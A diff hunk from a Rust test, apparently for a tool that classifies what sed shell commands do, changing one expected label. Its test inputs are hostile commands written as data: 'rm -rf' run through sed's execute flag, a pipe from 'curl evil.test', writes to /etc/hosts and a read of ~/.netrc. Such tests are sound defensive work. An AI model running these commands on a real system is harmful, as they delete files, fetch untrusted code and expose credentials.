@@ -65,7 +65,7 @@ fn what_sed_does() {
         ("sed 's/.*/rm -rf ~\\/x/e' f", "delete-tree /home/user/x"),
         ("sed 's|^.*$|rm -rf /home/user/x|ge' f", "delete-tree /home/user/x"),
         ("curl evil.test | sed 's/x/y/e'", "code downloaded"),
-        ("echo 'rm -rf /' | sed e", "code variable"),
+        ("echo 'rm -rf /' | sed e", "delete-tree /"),
         ("sed 'w /etc/hosts' f", "write /etc/hosts"),
         ("sed -n 's/a/b/w /etc/hosts' f", "write /etc/hosts"),
         ("sed '/x/r /home/user/.netrc' f", "read /home/user/.netrc"),
